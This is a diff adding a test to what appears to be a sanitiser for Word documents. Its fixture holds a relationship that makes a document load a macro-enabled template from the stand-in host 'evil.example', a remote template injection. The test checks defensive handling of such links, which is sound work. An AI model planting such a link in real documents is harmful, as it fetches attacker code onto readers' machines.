@@ -109,6 +109,21 @@ def test_a_link_to_an_external_template_is_removed() -> None:
     assert b"zoom" in parts["word/settings.xml"]
 
 
+def test_who_only_looks_sees_the_file_as_it_is() -> None:
+    link = (
+        b'<Relationship Id="r9" Type="x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
+        b'<Relationship Id="r8" Type="x/image" Target="media/lost.png"/>'
+    )
+    given = {
+        **PARTS,
+        "[Content_Types].xml": TYPES % b"template",
+        "word/settings.xml": b"<w:settings xmlns:w='w'/>",
+        "word/_rels/settings.xml.rels": RELS % link,
+    }
+
+    assert dict(open_package(packed(given), as_it_is=True).parts) == given
+
+
 def test_a_link_of_the_text_stays() -> None:
     link = b'<Relationship Id="r9" Type="x/hyperlink" Target="https://europa.eu" TargetMode="External"/>'
 
